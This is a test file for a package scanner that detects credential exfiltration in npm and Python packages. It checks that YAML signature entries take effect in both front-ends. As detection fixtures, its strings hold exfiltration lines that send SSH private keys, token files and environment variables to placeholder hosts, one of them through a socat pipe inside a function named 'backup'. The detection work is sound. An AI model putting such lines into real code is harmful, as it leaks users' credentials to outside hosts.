// Library models are data: an entry added to signatures/ (here through a --signatures
// directory) takes effect in both front-ends with no code change, one test per entry kind;
// an entry no front-end can use is a load error naming file and line.
import { mkdirSync, mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { analyzeNpmPackage } from "../../src/analyzers/js/index.js";
import { analyzePythonPackage } from "../../src/analyzers/python/index.js";
import { ConfigurationError } from "../../src/core/errors.js";
import { evaluateFacts } from "../../src/rules/evaluate.js";
import { loadSignatures, type Signatures } from "../../src/rules/signatures.js";
import { makePackage } from "../analyzers/js/helpers.js";
import { dedent } from "../analyzers/python/helpers.js";

const base = loadSignatures();

function extraDir(files: Record<string, string>): string {
  const dir = mkdtempSync(join(tmpdir(), "exfilscan-models-"));
  mkdirSync(join(dir, "rules"));
  for (const [name, text] of Object.entries(files)) writeFileSync(join(dir, name), text);
  return dir;
}
const NO_SINKS = { js: "js: { modules: {}, globals: {} }", python: "python: { modules: {}, builtins: {} }", shell: "shellPrograms: {}" };
const sinksYaml = (parts: Partial<typeof NO_SINKS>) => [parts.js ?? NO_SINKS.js, parts.python ?? NO_SINKS.python, parts.shell ?? NO_SINKS.shell].join("\n") + "\n";
const sourcesYaml = (credentialFiles: string, envSecretNames = "[]") => `credentialFiles: ${credentialFiles}\nenvSecretNames: ${envSecretNames}\nsecretParameterNames: []\n`;

const pkg = { ecosystem: "npm" as const, name: "pkg", version: "1.0.0" };
async function jsFindings(code: string, signatures: Signatures): Promise<string[]> {
  const facts = await analyzeNpmPackage(makePackage({ "index.js": code }), signatures);
  return evaluateFacts(facts, pkg, signatures).map((f) => `${f.ruleId} ${f.severity} ${f.location.line}`);
}
async function pyFindings(code: string, signatures: Signatures): Promise<string[]> {
  const files = new Map([
    ["setup.py", Buffer.from('from setuptools import setup\nsetup(name="pkg", version="1.0.0", packages=["pkg"])\n')],
    ["pkg/__init__.py", Buffer.from(dedent(code))],
  ]);
  const facts = await analyzePythonPackage({ input: "test", files, bytes: 0, errors: [] }, signatures);
  return evaluateFacts(facts, { ...pkg, ecosystem: "pypi" }, signatures).map((f) => `${f.ruleId} ${f.severity} ${f.location.line}`);
}

describe("an added entry takes effect", () => {
  it("sources.credentialFiles: a new credential file, in JS and Python", async () => {
    const sigs = loadSignatures([extraDir({ "sources.yaml": sourcesYaml('[{ kind: registry-token, pattern: "^~/\\\\.zorblat/token$", note: "zorblat token" }]') })]);
    const js = 'const fs = require("fs"); const os = require("os");\nfetch("https://c.example.invalid/", { method: "POST", body: fs.readFileSync(os.homedir() + "/.zorblat/token") });\n';
    const py = 'import os, requests\nrequests.post("https://c.example.invalid/", data=open(os.path.expanduser("~/.zorblat/token")).read())\n';
    expect(await jsFindings(js, base)).not.toContain("credential-exfiltration critical 2");
    expect(await jsFindings(js, sigs)).toContain("credential-exfiltration critical 2");
    expect(await pyFindings(py, base)).not.toContain("credential-exfiltration critical 2");
    expect(await pyFindings(py, sigs)).toContain("credential-exfiltration critical 2");
  });

  it("sources.envSecretNames: a new secret variable, in JS and Python", async () => {
    const sigs = loadSignatures([extraDir({ "sources.yaml": sourcesYaml("[]", '["^ZORBLAT$"]') })]);
    const js = 'fetch("https://c.example.invalid/?v=" + process.env.ZORBLAT);\n';
    const py = 'import os, requests\nrequests.get("https://c.example.invalid/", params={"v": os.environ["ZORBLAT"]})\n';
    expect(await jsFindings(js, base)).toEqual([]);
    expect(await jsFindings(js, sigs)).toContain("credential-exfiltration critical 1");
    expect(await pyFindings(py, base)).toEqual([]);
    expect(await pyFindings(py, sigs)).toContain("credential-exfiltration critical 2");
  });

  it("sinks.js.modules: a new client module", async () => {
    const sigs = loadSignatures([extraDir({ "sinks.yaml": sinksYaml({ js: 'js: { modules: { zorblat-net: { "*": http } }, globals: {} }' }) })]);
    const js = 'const z = require("zorblat-net");\nz.post("https://c.example.invalid/", JSON.stringify(process.env));\n';
    expect(await jsFindings(js, base)).toEqual([]);
    expect(await jsFindings(js, sigs)).toContain("credential-exfiltration critical 2");
  });

  it("sinks.python.modules with returns: client: data sent through the client's methods", async () => {
    const sigs = loadSignatures([extraDir({ "sinks.yaml": sinksYaml({ python: "python: { modules: { zorblat: { Messenger: { channel: http, returns: client } } }, builtins: {} }" }) })]);
    const py = 'import os, zorblat\nm = zorblat.Messenger("https://c.example.invalid/")\nm.send_message(dict(os.environ))\n';
    expect(await pyFindings(py, base)).toEqual([]);
    expect((await pyFindings(py, sigs)).some((f) => f.startsWith("credential-exfiltration critical"))).toBe(true);
    // The same member as a plain send: the constructor call is the sink, its methods are not.
    const plain = loadSignatures([extraDir({ "sinks.yaml": sinksYaml({ python: "python: { modules: { zorblat: { Messenger: http } }, builtins: {} }" }) })]);
    expect(await pyFindings(py, plain)).toEqual([]);
  });

  it("sinks.shellPrograms: a new sending program, in JS and Python", async () => {
    const sigs = loadSignatures([extraDir({ "sinks.yaml": sinksYaml({ shell: "shellPrograms: { zorblat-send: http }" }) })]);
    const js = 'require("child_process").exec("zorblat-send c.example.invalid < ~/.ssh/id_rsa");\n';
    const py = 'import os\nos.system("zorblat-send c.example.invalid < ~/.ssh/id_rsa")\n';
    expect(await jsFindings(js, base)).not.toContain("credential-exfiltration critical 1");
    expect(await jsFindings(js, sigs)).toContain("credential-exfiltration critical 1");
    expect(await pyFindings(py, base)).not.toContain("credential-exfiltration critical 2");
    expect(await pyFindings(py, sigs)).toContain("credential-exfiltration critical 2");
  });

  it("indicators.exfilServices: a new receiving service, in JS and Python", async () => {
    const sigs = loadSignatures([extraDir({ "indicators.yaml": 'exfilServices: [{ name: Zorblat bin, pattern: "zorblat\\\\.example\\\\.invalid", category: request-bin }]\nknownBad: []\n' })]);
    const js = 'fetch("https://zorblat.example.invalid/hook", { method: "POST", body: "hello" });\n';
    const py = 'import requests\nrequests.post("https://zorblat.example.invalid/hook", data="hello")\n';
    expect(await jsFindings(js, base)).toEqual([]);
    expect(await jsFindings(js, sigs)).toEqual(["exfil-service-destination medium 1"]);
    expect(await pyFindings(py, base)).toEqual([]);
    expect(await pyFindings(py, sigs)).toEqual(["exfil-service-destination medium 2"]);
  });
});

describe("an entry no front-end can use", () => {
  const loadError = (files: Record<string, string>): ConfigurationError => {
    try {
      loadSignatures([extraDir(files)]);
    } catch (error) {
      return error as ConfigurationError;
    }
    throw new Error("loaded");
  };

  it("returns: on a JS module is an error at its line", () => {
    const error = loadError({ "sinks.yaml": sinksYaml({ js: 'js:\n  modules:\n    zorblat-net:\n      Messenger: { channel: http, returns: client }\n  globals: {}' }) });
    expect(error).toBeInstanceOf(ConfigurationError);
    expect(error.message).toMatch(/sinks\.yaml:4: js\.modules\.zorblat-net\.Messenger: js sinks take a channel only/);
  });

  it("python.builtins is an error at its line", () => {
    const error = loadError({ "sinks.yaml": sinksYaml({ python: "python:\n  modules: {}\n  builtins: { exec: shell }" }) });
    expect(error.message).toMatch(/sinks\.yaml:4: python\.builtins: no front-end reads python\.builtins/);
  });
});

describe("the front-ends agree", () => {
  it("a socat line sending a key is the same finding in JS and Python (one shell-command reading)", async () => {
    const js = 'exports.backup = function () {\n  require("child_process").exec("cat ~/.ssh/id_rsa | socat - TCP:203.0.113.7:9000");\n};\n';
    const py = 'import os\ndef backup():\n    os.system("cat ~/.ssh/id_rsa | socat - TCP:203.0.113.7:9000")\n';
    expect(await jsFindings(js, base)).toEqual(["credential-exfiltration critical 2"]);
    expect(await pyFindings(py, base)).toEqual(["credential-exfiltration critical 3"]);
  });
});
